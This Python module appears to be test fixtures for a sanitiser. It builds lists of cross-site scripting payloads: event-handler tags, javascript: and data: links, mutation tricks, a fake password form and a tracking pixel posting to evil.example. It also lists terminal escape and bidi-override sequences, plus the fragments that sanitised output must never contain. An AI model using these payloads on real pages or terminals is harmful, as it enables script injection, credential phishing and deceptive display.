"""Texts that attack the page or the terminal of their readers."""

from itertools import product

_TAGS = (
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "details open",
    "input autofocus",
    "a href=#",
    "p",
)
_HANDLERS = (
    "onerror",
    "onload",
    "onfocus",
    "ontoggle",
    "onmouseover",
    "onanimationstart",
    "OnErRoR",
)
_CALL = "window.__attacked=1"
_SCHEMES = (
    *("javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "&#106;avascript:"),
    *("javascript&colon;", "vbscript:", "data:text/html,", "data:image/svg+xml,", " javascript:"),
    *(
        "\x01javascript:",
        "view-source:javascript:",
        "file:///etc/passwd#",
        "blob:x#",
        "//evil.example/",
    ),
)
_LINKS = (
    "[x]({})",
    "[x](<{}>)",
    "![x]({})",
    "<{}>",
    "[x]: {}\n\n[x]",
    '[x]({} "t")',
    "<a href='{}'>x</a>",
)
_TAIL = "//%0a" + _CALL
_RAW = (
    f"<script>{_CALL}</script>",
    f"<scr<script>ipt>{_CALL}</scr</script>ipt>",
    "<iframe srcdoc='<script>parent.__attacked=1</script>'></iframe>",
    f"<object data='javascript:{_CALL}'></object>",
    f"<embed src='javascript:{_CALL}'>",
    f"<math><mtext></mtext><mglyph><svg><mtext><img src=x onerror={_CALL}>",
    f"<svg><style><img src=x onerror={_CALL}></style></svg>",
    f"<noscript><p title='</noscript><img src=x onerror={_CALL}>'>",
    f"<template><script>{_CALL}</script></template>",
    "<style>*{display:none!important}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    f"<button formaction='javascript:{_CALL}'>x</button>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<p class='gate' id='composer'>x</p>",
    f'```"><img src=x onerror={_CALL}>\ncode\n```',
    f'```x" onmouseover={_CALL} y="\ncode\n```',
    f"| a | b |\n|---|---|\n| <img src=x onerror={_CALL}> | `</code><script>{_CALL}</script>` |",
    f"<!-- --><img src=x onerror={_CALL}> -->",
    f"<![CDATA[<img src=x onerror={_CALL}>]]>",
    f"&lt;img src=x onerror={_CALL}&gt;",
    f"\\<img src=x onerror={_CALL}>",
    f"&#x3c;script&#x3e;{_CALL}&#x3c;/script&#x3e;",
    "![x](https://evil.example/pixel.png?read)",
)

PAGE = [
    *(f"<{tag} {handler}={_CALL}>x" for tag, handler in product(_TAGS, _HANDLERS)),
    *(f"<{tag}/{handler}='{_CALL}'/>x" for tag, handler in product(_TAGS, _HANDLERS)),
    *(link.format(scheme + _TAIL) for link, scheme in product(_LINKS, _SCHEMES)),
    *_RAW,
]
"""Markup that would run a script, load something, or imitate a part of the page."""

MARK = "31337"
"""A number in the sequences below that no program sends by itself."""
_ESC, _BEL, _ST, _CSI, _OSC = "\x1b", "\x07", "\x1b\\", "\x9b", "\x9d"

TERMINAL = [
    f"{_ESC}[{MARK}m",
    f"{_ESC}[{MARK};{MARK}H",
    f"{_ESC}[?{MARK}h",
    f"{_CSI}{MARK}m",
    f"{_ESC}]0;{MARK}{_BEL}",
    f"{_OSC}0;{MARK}\x9c",
    f"{_ESC}]52;c;{MARK}{_BEL}",
    f"{_ESC}]8;;https://evil.example/{MARK}{_ST}x{_ESC}]8;;{_ST}",
    f"{_ESC}P{MARK}|x{_ST}",
    f"{_ESC}_{MARK}{_ST}",
    f"{_ESC}^{MARK}{_ST}",
    f"{_ESC}c{MARK}",
    f"a\x1b\x1b[{MARK}m",
    f"[link={MARK}]x[/link] [red]x[/red] [@click=app.quit]x[/]",
    f"left \u202e{MARK}\u202c right \u2066{MARK}\u2069",
    f"\x08\x08\x08\r{MARK}\x0b\x0c\x7f",
    f"\U000e0041\U000e0042{MARK}",
]
"""Sequences that would control a terminal, and characters that hide what a line says."""

FORBIDDEN = [
    *(f"{_ESC}[{MARK}", f"{_ESC}[?{MARK}", f"{_CSI}{MARK}", f"{_ESC}]0;{MARK}", _OSC, _CSI),
    *(f"{_ESC}]52;c;{MARK}", f"{_ESC}]8;;https://evil.example/{MARK}", f"{_ESC}P{MARK}"),
    *(f"{_ESC}_{MARK}", f"{_ESC}^{MARK}", f"{_ESC}c", "\u202e", "\u2066", "\U000e0041", "\x7f"),
]
"""What the output of a program that showed them never has."""
